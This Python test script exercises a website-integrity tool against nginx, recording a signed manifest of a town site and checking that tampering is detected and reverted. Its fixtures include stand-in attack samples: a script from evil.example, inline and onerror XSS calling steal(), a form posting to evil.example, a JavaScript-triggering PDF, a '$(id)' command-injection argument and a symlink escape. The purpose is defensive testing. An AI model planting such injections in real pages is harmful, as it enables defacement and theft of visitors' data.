#!/usr/bin/env python3
"""Published pages on a real nginx: approved, compared from outside over HTTP/1.1 and 2, spoiled in every way that clause 1(3) is about, told apart from what may
change, and restored by file and by hook."""
import gzip, json, os, shutil, subprocess, sys
from pathlib import Path
from house import JUNSHU, temporary
from web_server import Authority, Nginx

NEWS = "<!-- news -->{}<!-- /news -->"
HOME = """<!DOCTYPE html>
<html lang="ja"><head><meta charset="utf-8"><title>青葉町</title>
<link rel="stylesheet" href="/style.css"><script src="/menu.js"></script></head>
<body><h1>青葉町</h1>
<p>住民票の窓口は2階です。</p>
<img src="/logo.png" alt="町章">
""" + NEWS.format("<p>春の検診のお知らせ</p>") + """
<p>来訪者 <b>12345</b> 人</p>
<form action="/search"><input name="q"></form>
<p><a href="/about.html">町の紹介</a></p>
</body></html>
"""
PDF = b"%PDF-1.4\n1 0 obj<</Type/Catalog>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF\n"
CONFIG = """
http: "{http}"
renewals: accepted
regions:
  - {{id: news, start: "<!-- news -->", end: "<!-- /news -->", max_bytes: 200, pages: "/", reason: 新着情報は毎日変わる}}
  - {{id: counter, expression: '来訪者 <b>(\\d+)</b>', pages: "/", max_bytes: 8, reason: 来訪者数}}
"""
PNG = bytes.fromhex("89504e470d0a1a0a0000000d49484452000000010000000108020000009077" "53de0000000c4944415408d763f8cfc000000301010018dd8db00000000049454e44ae426082")


def sitemap(url, *paths):
    return '<?xml version="1.0"?><urlset xmlns="http://www.sitemaps.org/schemas/sitemap/0.9">' + "".join(f"<url><loc>{url}{path}</loc></url>" for path in paths) + "</urlset>"


class Site:
    """The pages, the manifest of them, and what `junshu sites` says."""

    def __init__(self, folder, http):
        self.folder, self.http = Path(folder), http
        self.folder.mkdir()
        self.folder.chmod(0o755)
        self.authority = Authority(self.folder / "ca", "Town CA")
        self.server = Nginx(self.folder / "nginx")
        self.authority.issue(self.server.folder / "server", "www.town.example", 60)
        self.url, self.root = self.server.url, self.server.root
        self.publish()
        self.server.start()
        (self.folder / "config.yaml").write_text(CONFIG.format(http=http))
        self.manifest = self.folder / "town.manifest"

    def publish(self):
        shutil.rmtree(self.root)
        self.root.mkdir()
        self.write("index.html", HOME)
        self.write("about.html", "<!DOCTYPE html><title>町の紹介</title><h1>町の紹介</h1><p>人口は12,000人です。</p>\n<p>面積は80平方キロです。</p>\n")
        self.write("closed.html", "<!DOCTYPE html><title>休館日</title><p>月曜</p>")
        self.write("style.css", "h1 { color: green }\n")
        self.write("menu.js", "function menu() {}\n")
        self.write("logo.png", PNG)
        self.write("data/report.pdf", PDF)
        self.write("sitemap.xml.gz", gzip.compress(sitemap(self.url, "/", "/about.html", "/data/report.pdf").encode(), mtime=0))
        self.write("robots.txt", f"User-agent: *\nSitemap: {self.url}/sitemap.xml.gz\n")

    def write(self, name, content):
        path = self.root / name
        path.parent.mkdir(exist_ok=True)
        path.write_bytes(content if isinstance(content, bytes) else content.encode())

    def read(self, name):
        return (self.root / name).read_text()

    def junshu(self, *words, codes=(0,)):
        reach = ["--ca", str(self.authority.certificate), "--connect-to", f"www.town.example:{self.server.port}:127.0.0.1:{self.server.port}"]
        done = subprocess.run([str(JUNSHU), "--lang", "en", "sites", *map(str, words), *reach], capture_output=True, text=True, timeout=300)
        assert done.returncode in codes, f"junshu sites {' '.join(map(str, words))} ended with {done.returncode}\n{done.stdout}\n{done.stderr}"
        return done.stdout

    def record(self):
        return self.junshu("manifest", f"{self.url}/", f"{self.url}/moved", f"{self.url}/closed.html", "--out", self.manifest, "--copies", self.folder / "copies",
                           "--config", self.folder / "config.yaml", "--key", self.folder / "officer.key")

    def check(self, code, *more):
        found = json.loads(self.junshu("check", self.manifest, "--copies", self.folder / "copies", "--format", "json", *more, codes=(code,)))
        return {one["target"].removeprefix(self.url): one for one in found["checks"]}

    def expect(self, path, *wanted, others="same", code=1):
        """Exactly `path` changed, and each of `wanted` = (what, words) was told of it in both languages."""
        found = self.check(code)
        for target, one in found.items():
            if target != path:
                assert one["outcome"] == others, (target, one)
        one = found[path]
        assert one["outcome"] == "changed", one
        for what, words in wanted:
            told = [d for d in one["differences"] if d["what"] == what and words in d["detail"]["en"] + d["detail"]["ja"]]
            assert told and all(d["detail"]["ja"] and d["detail"]["en"] and not d["notice"] for d in told), (what, words, one["differences"])
        return one

    def clean(self):
        found = self.check(0)
        assert all(one["outcome"] == "same" for one in found.values()), found
        return found


def recorded(site):
    said = site.record()
    assert "Note:" not in said, said
    found = site.clean()
    assert set(found) == {"/", "/about.html", "/moved", "/closed.html", "/style.css", "/menu.js", "/logo.png", "/data/report.pdf", "/sitemap.xml.gz", "/robots.txt"}, set(found)
    assert f'HTTP/{site.http}' in site.server.requests() and all(one["certificate"] for one in found.values())
    latency = found["/"]["latency_ms"]
    assert latency["total"] >= latency["first_byte"] >= 0, latency
    assert (site.folder / "officer.key").stat().st_mode & 0o777 == 0o600


def only_what_may_change(site):
    """Negative control: several rounds in which only declared regions change, within their bounds."""
    for round in range(4):
        site.write("index.html", HOME.replace("春の検診のお知らせ", "お知らせ" * round).replace("12345", str(12346 + round)))
        site.clean()
    site.publish()


def spoiled_pages(site):
    about = site.read("about.html")
    site.write("about.html", about.replace("12,000", "21,000"))
    one = site.expect("/about.html", ("bytes", "人口は12,000人です。"), ("bytes", "人口は21,000人です。"))
    assert (site.folder / "copies/evidence" / one["seen_sha256"]).read_text() == site.read("about.html")

    site.publish()
    site.write("index.html", HOME.replace("</body>", '<script src="https://evil.example/x.js"></script></body>'))
    site.expect("/", ("foreign_origin", "https://evil.example"), ("bytes", "A script was added"))
    site.write("index.html", HOME.replace("</body>", "<script>steal()</script></body>"))
    site.expect("/", ("bytes", "Scripts written into the page were added"))
    site.write("index.html", HOME.replace("<p>春の検診のお知らせ</p>", "<script>steal()</script>"))
    site.expect("/", ("region", "A script was written into a dynamic region"))
    site.write("index.html", HOME.replace("<p>春の検診のお知らせ</p>", "<img src=x onerror=steal()>"))
    site.expect("/", ("region", "A script was written into a dynamic region"))
    site.write("index.html", HOME.replace('action="/search"', 'action="https://evil.example/take"'))
    site.expect("/", ("bytes", "A form sends elsewhere"))
    site.write("index.html", HOME.replace("春の検診のお知らせ", "あ" * 100))
    site.expect("/", ("region", "longer than declared"))
    site.write("index.html", HOME.replace("<!-- /news -->", ""))
    site.expect("/", ("region", "no end marker"))

    site.publish()
    site.write("data/report.pdf", PDF.replace(b"/Catalog", b"/Catalog/OpenAction<</S/JavaScript>>"))
    site.expect("/data/report.pdf", ("bytes", "The PDF was replaced"), ("bytes", "/JavaScript"))
    site.write("data/report.pdf", "<!DOCTYPE html><p>偽")
    site.expect("/data/report.pdf", ("bytes", "It was PDF and is now HTML"))

    site.publish()
    site.write("about.html", "<!DOCTYPE html><title>メンテナンス中</title><p>しばらくお待ちください</p>")
    site.expect("/about.html", ("bytes", "The status is 200, but it is a page that tells of an error"))
    # Every address gives one and the same page, with 200.
    site.publish()
    site.write("sorry.html", "<!DOCTYPE html><title>青葉町</title><p>ようこそ</p>")
    site.server.restart(extra="error_page 404 =200 /sorry.html;")
    shutil.copy(site.root / "sorry.html", site.root / "about.html")
    site.expect("/about.html", ("bytes", "the page that an address gives which does not exist"))
    site.server.restart(extra="")

    site.publish()
    site.write("logo.png", PNG + b"x")
    site.expect("/logo.png", ("bytes", "replaced"))
    site.publish()
    (site.root / "about.html").unlink()
    site.expect("/about.html", ("missing", "missing"))
    site.publish()
    site.write("sitemap.xml.gz", gzip.compress(sitemap(site.url, "/", "/about.html", "/casino.html").encode()))
    site.expect("/sitemap.xml.gz", ("extra", "/casino.html"), ("missing", "/data/report.pdf"))
    # The same addresses in another order and another compression are the same.
    site.write("sitemap.xml.gz", gzip.compress(sitemap(site.url, "/data/report.pdf", "/", "/about.html").encode()))
    site.clean()
    site.publish()


def spoiled_servers(site):
    headers = site.server.settings["headers"]
    site.server.restart(headers="add_header X-Frame-Options DENY;")
    found = site.check(1)
    for one in found.values():
        assert one["outcome"] == "changed" and [d["what"] for d in one["differences"]] == ["header"], one
        assert "content-security-policy is gone" in one["differences"][0]["detail"]["en"], one
    site.server.restart(headers=headers, closed="return 302 https://elsewhere.example/;")
    site.expect("/closed.html", ("status", "from 200 to 302 → https://elsewhere.example/"))
    site.server.restart(closed="return 403;")
    found = site.check(2)
    assert found["/closed.html"]["outcome"] == "refused" and all(one["outcome"] == "same" for path, one in found.items() if path != "/closed.html"), found
    site.server.restart(closed="return 500;")
    site.expect("/closed.html", ("status", "from 200 to 500"))
    site.server.restart(closed="")
    if site.http == "2":
        site.server.restart(http2="")
        found = site.check(1)
        assert all(one["outcome"] == "changed" and "version of HTTP" in one["differences"][0]["detail"]["en"] for one in found.values()), found
        site.server.restart(http2="http2")
    site.clean()
    site.server.stop()
    found = site.check(2)
    assert all(one["outcome"] == "unreachable" and one["status"] == 0 and one["says"]["ja"] for one in found.values()), found
    site.server.start()
    site.clean()


def certificates(site):
    keep = [(site.server.folder / name, (site.server.folder / name).read_bytes()) for name in ("server.pem", "server.key")]

    def present(authority, days, key="P-256"):
        authority.issue(site.server.folder / "server", "www.town.example", days, key)
        site.server.restart()

    present(site.authority, 120)
    found = site.check(0)
    for one in found.values():
        assert one["outcome"] == "same" and [d["what"] for d in one["differences"]] == ["certificate"] and one["differences"][0]["notice"], one
        assert "renewed by the same issuer" in one["differences"][0]["detail"]["en"]
    present(site.authority, 120, "rsa")
    found = site.check(1)
    assert all(one["outcome"] == "changed" and "another certificate" in one["differences"][0]["detail"]["en"] for one in found.values()), found
    stranger = Authority(site.folder / "stranger", "Town CA")
    present(stranger, 120)
    requests = site.server.requests()
    found = site.check(1)
    for one in found.values():
        assert one["outcome"] == "changed" and one["status"] == 0 and "stranger" in one["differences"][0]["detail"]["en"], one
    assert site.server.requests() == requests, "something was asked over an unverified connection"
    for path, content in keep:
        path.write_bytes(content)
    site.server.restart()
    site.clean()


def manifests_that_are_refused(site):
    text = site.manifest.read_text()
    copy = site.folder / "altered.manifest"
    shutil.copy(f"{site.manifest}.vkey", f"{copy}.vkey")
    body, signatures = text.rsplit("\n\n", 1)
    copy.write_text(text.replace('"status":200', '"status":404', 1))
    site.junshu("check", copy, codes=(7,))
    copy.write_text(body + "\n")
    site.junshu("check", copy, codes=(2,))
    # Signed by somebody else, whose key lies beside it: refused where the right one is trusted.
    site.junshu("manifest", f"{site.url}/closed.html", "--out", copy, "--copies", site.folder / "others", "--key", site.folder / "other.key")
    site.junshu("check", copy, "--trust", f"{site.manifest}.vkey", codes=(7,))
    site.junshu("check", copy, codes=(0,))


def restored(site):
    site.write("about.html", "<!DOCTYPE html><title>x</title>")
    (site.root / "about.html").chmod(0o640)
    if os.geteuid() == 0:
        os.chown(site.root / "about.html", 33, 33)
    site.write("data/report.pdf", b"%PDF-1.4 swapped")
    (site.root / "style.css").unlink()
    said = site.junshu("restore", site.manifest, "--copies", site.folder / "copies", "--root", site.root)
    assert said.count("Restored, and seen from outside") == 3, said
    status = (site.root / "about.html").stat()
    assert status.st_mode & 0o777 == 0o640 and (os.geteuid() != 0 or (status.st_uid, status.st_gid) == (33, 33)), oct(status.st_mode)
    site.clean()
    assert "nothing to do" in site.junshu("restore", site.manifest, "--copies", site.folder / "copies", "--root", site.root)

    # By a hook: a program, its arguments, the copy, the address.
    hook = site.folder / "put page"
    hook.write_text(f'#!/bin/sh\n[ "$1" = "a b;$(id)" ] || exit 9\ncase "$3" in */about.html) exec cp "$2" "{site.root}/about.html";; esac\nexit 3\n')
    hook.chmod(0o755)
    site.write("about.html", "spoiled")
    site.junshu("restore", site.manifest, "--copies", site.folder / "copies", "--hook", hook, f"a b;$(id)", codes=(1,))
    hook.write_text(hook.read_text().replace("$(id)", "\\$(id)"))
    said = site.junshu("restore", site.manifest, "--copies", site.folder / "copies", "--only", f"{site.url}/about.html", "--hook", hook, "a b;$(id)")
    assert "Restored" in said, said
    site.clean()
    # A hook that does nothing is not believed.
    site.write("about.html", "spoiled")
    said = site.junshu("restore", site.manifest, "--copies", site.folder / "copies", "--hook", "/bin/true", codes=(1,))
    assert "still differs" in said, said
    # A link out of the document root is no way out of it.
    outside = site.folder / "outside"
    outside.mkdir()
    site.publish()
    shutil.rmtree(site.root / "data")
    os.symlink(outside, site.root / "data")
    site.junshu("restore", site.manifest, "--copies", site.folder / "copies", "--root", site.root, codes=(1,))
    assert not list(outside.iterdir()), "written outside of the document root"
    (site.root / "data").unlink()
    # A copy that was spoiled itself is not put anywhere.
    site.publish()
    site.write("about.html", "spoiled")
    for copy in (site.folder / "copies/approved").iterdir():
        copy.write_bytes(copy.read_bytes() + b"x")
    site.junshu("restore", site.manifest, "--copies", site.folder / "copies", "--root", site.root, codes=(1, 7))
    assert site.read("about.html") == "spoiled"


def pictures(site):
    site.write("index.html", HOME.replace("青葉町</h1>", "乗っ取られた町</h1>").replace("</body>", "<script>document.body.remove()</script></body>"))
    one = site.check(1, "--pictures", site.folder / "pictures", "--only", f"{site.url}/")["/"]
    if "no_pictures" in one:
        print("skipped pictures:", one["no_pictures"]["en"])
        assert shutil.which("chromium") is None or "could not be made" in one["no_pictures"]["en"], one
    else:
        assert 0 < one["pictures"]["changed_per_mille"] < 500, one["pictures"]
        for name in ("before", "after", "difference"):
            assert Path(one["pictures"][name]).read_bytes().startswith(b"\x89PNG"), name
    site.publish()


def main():
    with temporary() as folder:
        Path(folder).chmod(0o755)
        for http, name in (("2", "two"), ("1.1", "one")):
            site = Site(Path(folder) / name, http)
            try:
                recorded(site)
                only_what_may_change(site)
                spoiled_pages(site)
                spoiled_servers(site)
                certificates(site)
                manifests_that_are_refused(site)
                if http == "2":
                    pictures(site)
                restored(site)
            finally:
                site.server.stop()
    print("passed")


if __name__ == "__main__":
    sys.exit(main())
